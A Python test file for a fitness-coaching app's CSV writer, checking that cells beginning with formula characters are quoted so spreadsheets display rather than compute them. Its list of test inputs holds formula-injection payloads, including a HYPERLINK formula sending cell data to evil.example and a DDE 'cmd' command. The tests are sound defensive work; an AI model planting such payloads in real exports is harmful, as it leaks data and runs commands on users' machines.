"""No cell that a person typed is a formula to a spreadsheet, and each reads back as it was."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from coach.csv_text import neutral, plain, write_csv

ROOT = Path(__file__).resolve().parents[2]
# Signs that begin a formula in Excel, LibreOffice or Google Sheets; written here, not taken from the code.
BEGIN_FORMULAS = "=+-@＝＋－＠"
FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"look")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "-",
    "'=1+1",
]


def written(*cells: str) -> list[str]:
    out = io.StringIO(newline="")
    write_csv(out, ["a"] * len(cells), [cells])
    return list(csv.reader(io.StringIO(out.getvalue(), newline="")))[1]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_shown_and_not_computed(text: str) -> None:
    (cell,) = written(text)
    assert cell == f"'{text}"
    assert plain(cell) == text


@given(st.lists(st.text(), min_size=1, max_size=4))
def test_whatever_is_written_reads_back_and_begins_no_formula(texts: list[str]) -> None:
    cells = written(*texts)
    assert [plain(cell) for cell in cells] == texts
    assert not any(cell.lstrip()[:1] in BEGIN_FORMULAS for cell in cells if cell.strip())
    assert neutral("pain after = lifting") == "pain after = lifting"


def test_numbers_days_and_nothing_keep_their_form() -> None:
    out = io.StringIO(newline="")
    row = (-1.5, 7, True, None, date(2026, 11, 26), datetime(2026, 11, 26, 8, tzinfo=UTC), "Ada")
    write_csv(out, list("abcdefg"), [row])
    assert out.getvalue().splitlines()[1] == '-1.5,7,"true","","2026-11-26","2026-11-26T08:00:00+00:00","Ada"'


def test_nobody_else_writes_csv() -> None:
    """A second writer would have to think of formulas too."""
    own_writing = re.compile(r"csv\.(writer|DictWriter)\(|\.to_csv\(|write_csv\(.*pyarrow|pyarrow\.csv|np\.savetxt\(")
    found = [
        str(path.relative_to(ROOT))
        for package in ("coach", "devices", "programs")
        for path in sorted((ROOT / package).rglob("*.py"))
        if own_writing.search(path.read_text(encoding="utf-8"))
    ]
    # The second writes nothing but numbers: the samples of a recording.
    assert found == ["coach/csv_text.py", "coach/exports/signals.py"]
